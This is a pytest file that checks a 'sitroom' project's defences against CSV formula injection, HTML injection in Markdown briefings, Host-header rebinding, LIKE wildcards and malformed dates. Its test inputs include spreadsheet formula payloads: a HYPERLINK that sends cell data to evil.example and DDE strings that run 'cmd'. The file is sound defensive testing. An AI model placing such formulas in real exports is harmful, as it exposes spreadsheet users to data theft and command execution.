"""Injection, output by output (issue 14): CSV formulas, HTML in the Markdown briefing, the Host
header, LIKE wildcards in document keys, impossible dates in the API. Real files, a real pipeline
run on a hostile article, a real CommonMark renderer and a real local HTTP server."""
from __future__ import annotations

import csv
import dataclasses
import http.client
import re
import threading
import time
from html.parser import HTMLParser

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sitroom.cli import main
from sitroom.export import export
from sitroom.export.writers import NUMERIC_COLUMNS
from sitroom.store import open_store
from sitroom.errors import ConfigError
from sitroom.web.app import create_app, host_name, trusted_hosts
from sitroom.web.brief import render_briefing
from test_web_api import HOSTILE, web_db  # noqa: F401  (the session fixture: seeds + hostile article)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory) -> str:
    """The hostile article through the real pipeline, its outlet a spreadsheet formula."""
    from sitroom.pipeline import run_corpus
    root = tmp_path_factory.mktemp("formula")
    (root / "in").mkdir()
    (root / "in" / "hostile_report.txt").write_text(HOSTILE, encoding="utf-8")
    outlet = FORMULAS[0].replace('"', '""')
    (root / "in" / "manifest.csv").write_text(f'file,outlet,published\nhostile_report.txt,"{outlet}",2016-03-08\n')
    db = str(root / "f.db")
    run_corpus([str(root / "in")], db)
    return db


# -- CSV ------------------------------------------------------------------------------------------

def test_csv_cells_that_start_a_formula_are_neutralised(formula_db, tmp_path):
    out = tmp_path / "events.csv"
    res = CliRunner().invoke(main, ["export", "--format", "csv", "--db", formula_db, "--out", str(out)])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert rows and any(r["source"] == "'" + FORMULAS[0] for r in rows)
    for row in rows:
        for col, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (col, cell)
            assert not cell.startswith("-") or col in NUMERIC_COLUMNS, (col, cell)


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_text_field_is_neutralised_and_numbers_stay_numbers(formula_db, tmp_path, formula):
    ev = open_store(formula_db).events()[0]
    loc = dataclasses.replace(ev.location, name=formula, lon=-3.25, lat=-1.5)
    hostile = dataclasses.replace(ev, location=loc, actor1=formula, actor2=formula, event_type=formula,
                                  reports=[dataclasses.replace(r, quote=formula, outlet=formula) for r in ev.reports])
    row = next(csv.DictReader(export([hostile], "csv", tmp_path / "e.csv").open(encoding="utf-8", newline="")))
    for col in ("location", "actor1", "actor2", "event_type", "source", "notes"):
        assert row[col].startswith("'") and row[col][1:].startswith(formula[:3]), (col, row[col])
    assert float(row["longitude"]) == -3.25 and float(row["latitude"]) == -1.5  # still numbers


# -- Markdown briefing ----------------------------------------------------------------------------

class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def rendered_tags(markdown: str) -> list[tuple[str, list]]:
    """The HTML a CommonMark renderer (raw HTML allowed, as most are) makes of the briefing."""
    from markdown_it import MarkdownIt
    parser = Tags()
    parser.feed(MarkdownIt("commonmark", {"html": True}).render(markdown))
    return parser.tags


SAFE_TAGS = {"h1", "h2", "h3", "p", "ul", "li", "em", "strong", "code"}


def assert_inert(markdown: str) -> None:
    tags = rendered_tags(markdown)
    assert {t for t, _ in tags} <= SAFE_TAGS, tags
    assert all(attrs == [] for _, attrs in tags), tags  # no onerror=, no href=


def test_briefing_from_cli_and_api_renders_no_html(web_db, tmp_path):  # noqa: F811
    out = tmp_path / "b.md"
    assert CliRunner().invoke(main, ["brief", "--db", web_db, "--out", str(out)]).exit_code == 0
    cli_text = out.read_text(encoding="utf-8")
    with TestClient(create_app(web_db), base_url="http://127.0.0.1") as c:
        api_text = c.get("/api/briefing", params={"format": "markdown"}).text
    for text in (cli_text, api_text):
        assert "onerror" in text and "Hostile" in text  # the hostile article is in it...
        assert_inert(text)  # ...as text only


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.sampled_from(list("<>&\"'=/[]()!*_`\\|~#-:. ximgsrconerrorscript")), min_size=1, max_size=40))
def test_no_field_of_an_event_can_inject_html(web_db, value):  # noqa: F811
    ev = open_store(web_db).events()[0]
    hostile = dataclasses.replace(
        ev, date_start=value, date_end=value, actor1=value, actor2=value, sub_event_type=value,
        location=dataclasses.replace(ev.location, name=value, sub_location=value) if ev.location else None,
        reports=[dataclasses.replace(r, outlet=value, published=value, doc=value) for r in ev.reports],
        claims=[dataclasses.replace(c, claimant=value, qualifier=value, victims=value, kind=value) for c in ev.claims],
        fatalities={**ev.fatalities, "reasoning": value})
    assert_inert(render_briefing([hostile]))


# -- the API: Host header, LIKE wildcards, dates -------------------------------------------------------

@pytest.fixture(scope="module")
def server(web_db):  # noqa: F811
    """A real uvicorn on loopback, with one configured host name."""
    import socket

    import uvicorn
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    srv = uvicorn.Server(uvicorn.Config(create_app(web_db, hosts=["room.example"]), host="127.0.0.1", port=port,
                                        log_level="warning"))
    th = threading.Thread(target=srv.run, daemon=True)
    th.start()
    deadline = time.time() + 20
    while not srv.started and time.time() < deadline:
        time.sleep(0.05)
    yield port
    srv.should_exit = True
    th.join(timeout=10)


def status_with_host(port: int, host: str, path: str = "/api/settings") -> int:
    con = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    con.putrequest("GET", path, skip_host=True)
    con.putheader("Host", host)
    con.endheaders()
    status = con.getresponse().status
    con.close()
    return status


@pytest.mark.parametrize("host,status", [
    ("127.0.0.1", 200), ("localhost", 200), ("LOCALHOST:8000", 200), ("[::1]:8000", 200),
    ("room.example", 200), ("room.example:443", 200),
    ("evil.example", 400), ("rebind.evil.example:8000", 400), ("127.0.0.1.evil.example", 400), ("", 400),
    ("localhost.evil.example", 400), ("[::1].evil", 400),
])
def test_only_trusted_host_headers_are_answered(server, host, status):
    assert status_with_host(server, host) == status
    assert status_with_host(server, host, "/") == status  # the page too, not only the API


def test_host_name_parsing():
    assert [host_name(h) for h in ("[::1]:80", "a.example:1", "A.Example", "::1", "[::1")] == \
        ["::1", "a.example", "a.example", "::1", ""]
    with pytest.raises(ConfigError):
        trusted_hosts(["*"])  # answering any Host would undo the check


@pytest.fixture(scope="module")
def client(web_db):  # noqa: F811
    with TestClient(create_app(web_db), base_url="http://127.0.0.1") as c:
        yield c


@pytest.mark.parametrize("key", ["%%%%", "______", "%%%%%%%%", "_%_%_%", "\\%\\%\\%", "0%", "______%"])
def test_like_wildcards_in_a_document_key_match_nothing(client, key):
    r = client.get(f"/api/documents/{key.replace('%', '%25')}")
    assert r.status_code == 404, (key, r.json().get("name"))


def test_a_real_prefix_still_opens_the_document(client, web_db):  # noqa: F811
    doc_id = open_store(web_db).documents(with_text=False)[0]["doc_id"]
    assert client.get(f"/api/documents/{doc_id[:10]}").json()["doc_id"] == doc_id


@pytest.mark.parametrize("params", [{"from": "2016-13-01"}, {"to": "2016-02-30"}, {"from": "2016-00"},
                                    {"to": "2015-04-31"}, {"from": "0000-01-01"}])
def test_impossible_dates_are_422(client, params):
    assert client.get("/api/events", params=params).status_code == 422
    assert client.get("/api/briefing", params=params).status_code == 422


def test_possible_dates_still_work(client):
    assert client.get("/api/events", params={"from": "2016-02-29", "to": "2016-12"}).status_code == 200
    assert client.get("/api/control", params={"at": "2016-13"}).status_code == 422
    assert client.get("/api/control", params={"at": "2016-02-29"}).status_code == 200


def test_hostile_outlet_is_text_on_the_page_briefing(client):
    md = client.get("/api/briefing", params={"format": "markdown"}).text
    assert "Hostile &lt;b&gt;Wire&lt;/b&gt;" in md and "<b>" not in md
    assert re.search(r"&(?!amp;|lt;|gt;)", md) is None  # every & is one of the three entities
